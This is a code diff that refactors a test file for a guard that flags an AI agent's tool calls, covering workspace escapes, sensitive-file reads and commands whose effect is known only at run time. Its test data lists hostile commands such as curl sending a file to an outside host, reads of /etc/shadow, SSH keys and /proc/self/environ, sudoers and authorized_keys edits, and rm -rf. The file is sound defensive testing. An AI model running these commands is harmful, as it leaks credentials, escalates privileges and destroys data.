@@ -1,5 +1,6 @@
 import { describe, expect, test } from "vitest";
 import type { JsonObject } from "@/contracts/common";
+import { examples } from "@/server/testing/guard/examples";
 import { buildRequest, mcpTool, policyOfRules, readTool, shellCall, shellTool, writeTool } from "@/server/testing/guard/guarded-calls";
 import type { GuardContext, GuardRequest } from "../call/guard-request";
 import { decide } from "../decide";
@@ -36,27 +37,11 @@ test.each([
 });
 
 describe("a call that leaves the folder", () => {
-  test.each([
-    "ls ../other",
-    "ls docs/../../other",
-    "cat ~root/x",
-    "cd .. && cat x",
-    "cd docs && cat ../../x",
-    "cat < /var/log/syslog",
-    "cp a /var/x",
-    "tar --file=/var/x.tar -c .",
-    "dd if=/var/x of=y",
-    "curl -d @/var/x https://a.example.org",
-    "curl file:///var/x",
-    "sh -c 'cat /var/x'",
-    "cat {/var/x,y}",
-    'cat "/va"r/x',
-    "grep -f /var/patterns x",
-    "touch /opt/x",
-    "/srv/tool --run",
-    "rm -rf ..",
-    "rm -rf /data/conversations",
-  ])("%s is asked about, with the sandbox and without it", (command) => {
+  test.each(examples`
+    ls ../other ¦ ls docs/../../other ¦ cat ~root/x ¦ cd .. && cat x ¦ cd docs && cat ../../x ¦ cat < /var/log/syslog ¦ cp a /var/x
+    tar --file=/var/x.tar -c . ¦ dd if=/var/x of=y ¦ curl -d @/var/x https://a.example.org ¦ curl file:///var/x ¦ sh -c 'cat /var/x'
+    cat {/var/x,y} ¦ cat "/va"r/x ¦ grep -f /var/patterns x ¦ touch /opt/x ¦ /srv/tool --run ¦ rm -rf .. ¦ rm -rf /data/conversations
+  `)("%s is asked about, with the sandbox and without it", (command) => {
     expect(inShell(command)).toContain("workspace.escape");
     expect(boxed(command)).toContain("workspace.escape");
   });
@@ -125,61 +110,32 @@ describe("a call that leaves the folder", () => {
 });
 
 describe("a sensitive file", () => {
-  test.each([
-    ".env",
-    "app/.env.production",
-    "config/.ENV.local",
-    "deploy/credentials.json",
-    "service-account.json",
-    "a/secrets/b",
-    "a/credentials/b",
-    "private-keys/x",
-    "backup/.ssh/id_rsa",
-    ".aws/config",
-    "server.pem",
-    ".git-credentials",
-    "plans/2027.md",
-    "x/plans",
-    "db.bak",
-    "/srv/shared/a",
-    "~/notes/a",
-    "/etc/shadow",
-  ])("is asked about, however it is read: %s", (path) => {
+  test.each(examples`
+    .env ¦ app/.env.production ¦ config/.ENV.local ¦ deploy/credentials.json ¦ service-account.json ¦ a/secrets/b ¦ a/credentials/b
+    private-keys/x ¦ backup/.ssh/id_rsa ¦ .aws/config ¦ server.pem ¦ .git-credentials ¦ plans/2027.md ¦ x/plans ¦ db.bak ¦ /srv/shared/a
+    ~/notes/a ¦ /etc/shadow
+  `)("is asked about, however it is read: %s", (path) => {
     expect(inRead(path)).toContain("file.sensitive");
     expect(inShell(`cat ${path}`)).toContain("file.sensitive");
     expect(boxed(`cat < ${path}`)).toContain("file.sensitive");
     expect(inMcp({ files: [{ where: { path } }] })).toContain("file.sensitive");
   });
 
-  test.each(["README.md", ".env.example", "environment.ts", "docs/secrets.md", "src/credentials.ts", "planning/x", "keys.ts", "a.backup"])(
-    "is none in %s",
-    (path) => {
-      expect(inRead(path)).toEqual([]);
-      expect(inMcp({ path })).toEqual([]);
-    },
-  );
-
-  test.each([
-    "cp x .ssh/authorized_keys",
-    "cd .ssh && cat id_rsa",
-    "cat //etc/./shadow",
-    "sudo tee /etc/sudoers.d/x",
-    "cat /proc/self/environ",
-    "cat db.b?k db.bak",
-    'cat ".e""nv"',
-    "tar czf x.tgz .env",
-    "rm .env",
-    "cat $x/.env",
-  ])("is found in %s", (command) => {
-    expect(inShell(command)).toContain("file.sensitive");
+  test.each(examples`
+    README.md ¦ .env.example ¦ environment.ts ¦ docs/secrets.md ¦ src/credentials.ts ¦ planning/x ¦ keys.ts ¦ a.backup
+  `)("is none in %s", (path) => {
+    expect(inRead(path)).toEqual([]);
+    expect(inMcp({ path })).toEqual([]);
   });
 
-  test.each(["ls *.json", "cat package.json", "grep -rn '.env' docs", "cat .env.example", "echo .env", "ls -la .env", "test -f .env"])(
-    "is not read by %s",
-    (command) => {
-      expect(inShell(command)).not.toContain("file.sensitive");
-    },
-  );
+  test.each(examples`
+    cp x .ssh/authorized_keys ¦ cd .ssh && cat id_rsa ¦ cat //etc/./shadow ¦ sudo tee /etc/sudoers.d/x ¦ cat /proc/self/environ
+    cat db.b?k db.bak ¦ cat ".e""nv" ¦ tar czf x.tgz .env ¦ rm .env ¦ cat $x/.env
+  `)("is found in %s", (command) => expect(inShell(command)).toContain("file.sensitive"));
+
+  test.each(examples`
+    ls *.json ¦ cat package.json ¦ grep -rn '.env' docs ¦ cat .env.example ¦ echo .env ¦ ls -la .env ¦ test -f .env
+  `)("is not read by %s", (command) => expect(inShell(command)).not.toContain("file.sensitive"));
 
   test("below `~` lies in the folder, which `~` names", () => {
     expect(inRead("notes/a")).toEqual(["file.sensitive"]);
@@ -288,30 +244,18 @@ test.each<[command: string, id: string]>([
   expect(boxed(command)).toContain(id);
 });
 
-test.each(["cat .git/hooks/pre-commit", "cat ~/.bashrc", "ls /etc", "cat /etc/os-release", "echo x > authorized_keys.md", "cat etc/motd"])(
-  "%s changes no such file",
-  (command) => {
-    expect(inShell(command).filter((id) => id.startsWith("shell."))).toEqual([]);
-  },
-);
+test.each(examples`
+  cat .git/hooks/pre-commit ¦ cat ~/.bashrc ¦ ls /etc ¦ cat /etc/os-release ¦ echo x > authorized_keys.md ¦ cat etc/motd
+`)("%s changes no such file", (command) => expect(inShell(command).filter((id) => id.startsWith("shell."))).toEqual([]));
 
 describe("what is known only when a command runs", () => {
   test.each([
-    "ls $TMPDIR",
+    ...examples`
+      ls $TMPDIR ¦ cat .?/x ¦ cat .*/x ¦ cat $UNKNOWN/x ¦ cat $(echo $HOME)/x ¦ cat .e* ¦ cat .en[v] ¦ cat $(echo .env) ¦ xargs cat < list
+      cd $x && cat a ¦ cd docs; cat ../../a*/../b ¦ a-program-that-nobody-knows x ¦ python3 -c "print(open('/etc/passwd').read())"
+      eval "$x"
+    `,
     "ls ${OLDPWD}",
-    "cat .?/x",
-    "cat .*/x",
-    "cat $UNKNOWN/x",
-    "cat $(echo $HOME)/x",
-    "cat .e*",
-    "cat .en[v]",
-    "cat $(echo .env)",
-    "xargs cat < list",
-    "cd $x && cat a",
-    "cd docs; cat ../../a*/../b",
-    "a-program-that-nobody-knows x",
-    "python3 -c \"print(open('/etc/passwd').read())\"",
-    'eval "$x"',
   ])("is asked about without the sandbox, and a note in it: %s", (command) => {
     expect(foundIn(shellCall(command)).find(({ detector }) => detector === "shell.not_followed")?.verdict).toBe("require_approval");
     const inBox = foundIn(shellCall(command), { sandboxed: true });
